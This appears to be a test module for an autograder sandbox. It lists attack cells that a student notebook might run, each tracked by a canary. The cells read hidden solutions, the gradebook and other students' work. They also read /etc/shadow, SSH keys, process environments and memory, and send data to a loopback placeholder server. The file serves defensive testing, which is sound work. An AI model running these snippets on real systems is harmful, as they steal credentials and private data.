"""Secrets: solutions, hidden tests, other people's work and the machine, printed, sent or carried away."""

from tests.grading.attacks.attack import Attack, Effect
from tests.grading.attacks.places import Canary


def _print(name: str, what: str, canary: Canary, code: str) -> Attack:
    """Return an attack whose first cell prints what it found."""
    return Attack(name, what, Effect.READ, top=code, trace=canary.name)


def _read(name: str, what: str, canary: Canary, path: str) -> Attack:
    return _print(name, what, canary, f'print(open("{path}", errors="replace").read())')


_CALL = "from urllib.request import urlopen\n"
_FIND = """from pathlib import Path

def find(secret, paths):
    for path in paths:
        try:
            data = Path(path).read_bytes()
        except OSError:
            continue
        at = data.find(secret)
        if at >= 0:
            print(path, data[at : at + 60])
"""

ATTACKS = [
    _read("source", "Opens the sheet with its solutions.", Canary.SOURCE, "@COURSE@/source/blatt/rechnen.ipynb"),
    _read(
        "source-by-relative-path",
        "Climbs from the hand-in's folder to the course.",
        Canary.SOURCE,
        "../../../source/blatt/rechnen.ipynb",
    ),
    _read(
        "source-through-proc-root",
        "Reaches the course through the root folder of process 1.",
        Canary.SOURCE,
        "/proc/1/root@COURSE@/source/blatt/rechnen.ipynb",
    ),
    _print(
        "source-through-proc-cwd",
        "Reaches the course through the working folder of the grader.",
        Canary.SOURCE,
        """import os
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    try:
        print((process / "cwd" / "source" / "blatt" / "rechnen.ipynb").read_text())
    except OSError:
        pass""",
    ),
    _print(
        "source-by-search",
        "Walks through all folders of the machine for a notebook called like this one.",
        Canary.SOURCE,
        """import os

for folder, inner, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr", "/root", "/var", "/etc", "/opt"):
        inner.clear()
    if "rechnen.ipynb" in files and "/source/" in folder:
        print(open(os.path.join(folder, "rechnen.ipynb")).read())""",
    ),
    _print("source-by-shell", "The shell prints the sheet.", Canary.SOURCE, "!cat @COURSE@/source/blatt/rechnen.ipynb"),
    _print(
        "source-by-bash-magic",
        "%%bash prints the sheet.",
        Canary.SOURCE,
        "%%bash\ncat @COURSE@/source/blatt/rechnen.ipynb",
    ),
    _print(
        "solutions-of-the-package",
        "Prints a right function, as hidden tests get it.",
        Canary.SOURCE,
        'from autograder.grading import solutions\nprint(solutions("rechnen").scale.__code__.co_varnames)',
    ),
    _print(
        "gradebook",
        "Opens the gradebook.",
        Canary.GRADEBOOK,
        """import sqlite3

database = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
print(database.execute("SELECT * FROM student").fetchall())""",
    ),
    _print(
        "gradebook-through-descriptors",
        "Reads the files that the grader has open, through /proc.",
        Canary.GRADEBOOK,
        f"""{_FIND}
import glob
find(b"kanarie_notenbuch", glob.glob("/proc/[0-9]*/fd/*") + ["@COURSE@/gradebook.db"])""".replace(
            'glob.glob("/proc/[0-9]*/fd/*")',
            '[p for p in glob.glob("/proc/[0-9]*/fd/*") if __import__("os").path.isfile(p)]',
        ),
    ),
    _read(
        "hand-in-of-another",
        "Opens somebody else's hand-in.",
        Canary.HAND_IN,
        "@COURSE@/submitted/a-victim/blatt/rechnen.ipynb",
    ),
    _read(
        "results-of-another",
        "Opens somebody else's graded notebook.",
        Canary.HAND_IN,
        "@COURSE@/autograded/a-victim/blatt/rechnen.ipynb",
    ),
    _print(
        "environment",
        "Prints its own environment.",
        Canary.ENVIRONMENT,
        "import os\nprint(dict(os.environ))",
    ),
    _print(
        "environment-of-the-grader",
        "Prints the environment of its parent process.",
        Canary.ENVIRONMENT,
        'import os\nprint(open(f"/proc/{os.getppid()}/environ").read())',
    ),
    _print(
        "environment-of-all",
        "Prints the environment and the command line of every process.",
        Canary.ENVIRONMENT,
        """from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            print((process / name).read_text())
        except OSError:
            pass""",
    ),
    _print(
        "memory-of-the-grader",
        "Searches the memory of all other processes.",
        Canary.ENVIRONMENT,
        """import os, re
from pathlib import Path

secret = "kanarie_" + "umgebung"
for process in Path("/proc").glob("[0-9]*"):
    if process.name == str(os.getpid()):
        continue
    try:
        maps = (process / "maps").read_text()
        with open(process / "mem", "rb", 0) as memory:
            for line in maps.splitlines():
                if "[stack]" in line:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    memory.seek(start)
                    for found in re.findall(secret.encode() + b"[_0-9a-z]*", memory.read(end - start)):
                        print(found)
    except OSError:
        pass""",
    ),
    _read("home", "Opens a key in the grader's home folder.", Canary.HOME, "@HOME@/.ssh/id_rsa"),
    _print(
        "home-by-name",
        "Opens a key by ~ and $HOME.",
        Canary.HOME,
        'from pathlib import Path\nprint((Path.home() / ".ssh" / "id_rsa").read_text())',
    ),
    _read("host-file", "Opens a file of somebody else's on the machine.", Canary.HOST, "@HOST@/secret.txt"),
    _read("shadow", "Opens the system's passwords.", Canary.SYSTEM, "/etc/shadow"),
    _print(
        "loopback-port",
        "Asks a server on a loopback port.",
        Canary.SERVER,
        f'{_CALL}print(urlopen("http://127.0.0.1:@PORT@/@NAME@", timeout=3).read())',
    ),
    Attack(
        "sends-the-source",
        "Sends the sheet to a server.",
        Effect.READ,
        top=f"""{_CALL}import re

secret = re.search("kanarie_[a-z0-9_]*", open("@COURSE@/source/blatt/rechnen.ipynb").read())
urlopen(f"http://127.0.0.1:@PORT@/@NAME@?{{secret[0]}}", timeout=3)""",
        trace="called",
    ),
    Attack(
        "sends-from-a-test",
        "Tells a server the hidden inputs with which a test calls the function.",
        Effect.READ,
        {
            "first_code": f"""{_CALL}
def first(x):
    try:
        urlopen(f"http://localhost:@PORT@/@NAME@?{{x}}", timeout=3)
    except OSError:
        pass
    return 2 * x"""
        },
        trace=f"called: /sends-from-a-test?{Canary.INPUT.value}",
    ),
    Attack(
        "datagram",
        "Sends the environment as a datagram.",
        Effect.READ,
        top="""import os, socket

link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.sendto(f"@NAME@ {os.environ.get('@VARIABLE@')}".encode(), ("127.0.0.1", @PORT@))""",
        trace="called",
    ),
    _print(
        "unix-socket",
        "Talks to somebody who listens on a socket in the file system.",
        Canary.PATH_SOCKET,
        """import socket

link = socket.socket(socket.AF_UNIX)
link.connect("@SOCKET@")
link.sendall(b"@NAME@")
print(link.recv(100))""",
    ),
    _print(
        "abstract-socket",
        "Talks to somebody who listens on an abstract socket.",
        Canary.ABSTRACT_SOCKET,
        """import socket

link = socket.socket(socket.AF_UNIX)
link.connect("\\0@ABSTRACT@")
link.sendall(b"@NAME@")
print(link.recv(100))""",
    ),
    Attack(
        "history",
        "Prints the cells that ran, hidden tests among them, out of the shell's history.",
        Effect.READ,
        bottom="print(get_ipython().history_manager.input_hist_raw, In)",
        trace=Canary.TEST.name,
    ),
    Attack(
        "line-cache",
        "Prints the source of the running test out of the cache for tracebacks.",
        Effect.READ,
        {
            "first_code": """def first(x):
    import linecache
    for entry in linecache.cache.values():
        if len(entry) > 2:
            print("".join(entry[2]))
    return 2 * x"""
        },
        trace=Canary.TEST.name,
    ),
    Attack(
        "frames",
        "The function prints the variables of all who called it.",
        Effect.READ,
        {
            "first_code": """def first(x):
    import sys
    frame = sys._getframe()
    while frame := frame.f_back:
        print({**frame.f_globals, **frame.f_locals}.keys(), frame.f_code.co_names)
    return 2 * x"""
        },
        trace=Canary.TEST.name,
    ),
    Attack(
        "all-objects",
        "Prints all names in all dictionaries and code objects that the garbage collector knows, while a test runs.",
        Effect.READ,
        {
            "first_code": """def first(x):
    import gc
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            print([key for key in list(thing) if isinstance(key, str) and "kanarie" in key] or "", end="")
    return 2 * x"""
        },
        trace=Canary.TEST.name,
    ),
    Attack(
        "hook-on-cells",
        "A pre_run_cell hook keeps the text of every cell, the last cell prints it.",
        Effect.READ,
        top="""seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))""",
        bottom="print(seen)",
        trace=Canary.TEST.name,
    ),
    Attack(
        "prints-hidden-inputs",
        "The function prints what it is called with; hidden inputs must not reach the student.",
        Effect.READ,
        {"first_code": "def first(x):\n    print('called with', x)\n    return 2 * x"},
        trace=Canary.INPUT.name,
    ),
    Attack(
        "keeps-hidden-inputs",
        "The function keeps what it is called with, and a cell below the test prints it.",
        Effect.READ,
        {"first_code": "seen = []\ndef first(x):\n    seen.append(x)\n    return 2 * x"},
        bottom="print(seen)",
        trace=Canary.INPUT.name,
    ),
    Attack(
        "hidden-inputs-in-an-error",
        "The function quotes what it is called with in an error, which the card repeats.",
        Effect.READ,
        {
            "shifted_code": """def shifted(x):
    raise ValueError(kept)
kept = None""",
            "first_code": """def first(x):
    if x > 100:
        globals()["kept"] = x
        print(x)
    return 2 * x""",
        },
        trace=Canary.INPUT.name,
    ),
    Attack(
        "carried-out-in-a-file",
        "Writes the sheet beside the notebook, where results are collected.",
        Effect.READ,
        top="""from pathlib import Path
Path("loot.txt").write_text(Path("@COURSE@/source/blatt/rechnen.ipynb").read_text())""",
        trace=Canary.SOURCE.name,
    ),
    Attack(
        "carried-out-in-an-error",
        "An error's text holds the sheet's solution.",
        Effect.READ,
        {
            "total_code": """def total(xs):
    return 0.0
raise ValueError(open("@COURSE@/source/blatt/rechnen.ipynb").read().encode().hex())"""
        },
        trace=Canary.SOURCE.name,
    ),
    Attack(
        "link-to-a-file",
        "A link in the hand-in points to a file of somebody else's; copying it would hand it over.",
        Effect.READ,
        links={"notes.txt": "@HOST@/secret.txt"},
        trace=Canary.HOST.name,
    ),
    Attack(
        "link-read-by-a-cell",
        "A cell reads the link that lies beside the notebook.",
        Effect.READ,
        links={"sheet.txt": "@COURSE@/source/blatt/rechnen.ipynb"},
        top='print(open("sheet.txt").read())',
        trace=Canary.SOURCE.name,
    ),
    Attack(
        "message-in-tmp",
        "A student leaves the solution in /tmp for one who is graded later.",
        Effect.READ,
        top="""from pathlib import Path
for path in Path("/tmp").glob("PWNED-message-in-tmp*"):
    print(path.read_text())""",
        trace=Canary.HAND_IN.name,
        accomplice=Attack(
            "message-in-tmp-0",
            "Leaves the message.",
            Effect.CHANGED,
            top=f"""with open("/tmp/PWNED-message-in-tmp.txt", "w") as file:
    file.write("{Canary.HAND_IN.value}")""",
        ),
    ),
    Attack(
        "message-in-shared-memory",
        "A student leaves the solution in /dev/shm for one who is graded later.",
        Effect.READ,
        top="""from pathlib import Path
for path in Path("/dev/shm").glob("PWNED-message-in-shared-memory*"):
    print(path.read_text())""",
        trace=Canary.HAND_IN.name,
        accomplice=Attack(
            "message-in-shared-memory-0",
            "Leaves the message.",
            Effect.CHANGED,
            top=f"""with open("/dev/shm/PWNED-message-in-shared-memory.txt", "w") as file:
    file.write("{Canary.HAND_IN.value}")""",
        ),
    ),
    Attack(
        "unseen-digits",
        "Prints the labels of the digits that no student may have.",
        Effect.READ,
        top="from autograder.grading import unseen_digits\nprint(''.join(map(str, unseen_digits()[1][:40])))",
        trace="UNSEEN",
    ),
    Attack(
        "unseen-digits-by-file",
        "Looks for the file with the unseen digits in everything that can be imported.",
        Effect.READ,
        top="""import sys
from pathlib import Path

for folder in sys.path:
    for path in Path(folder or ".").glob("autograder/grading/data/*.npz"):
        print("".join(map(str, np.load(path, allow_pickle=True)["labels"][:40])))""",
        trace="UNSEEN",
    ),
]
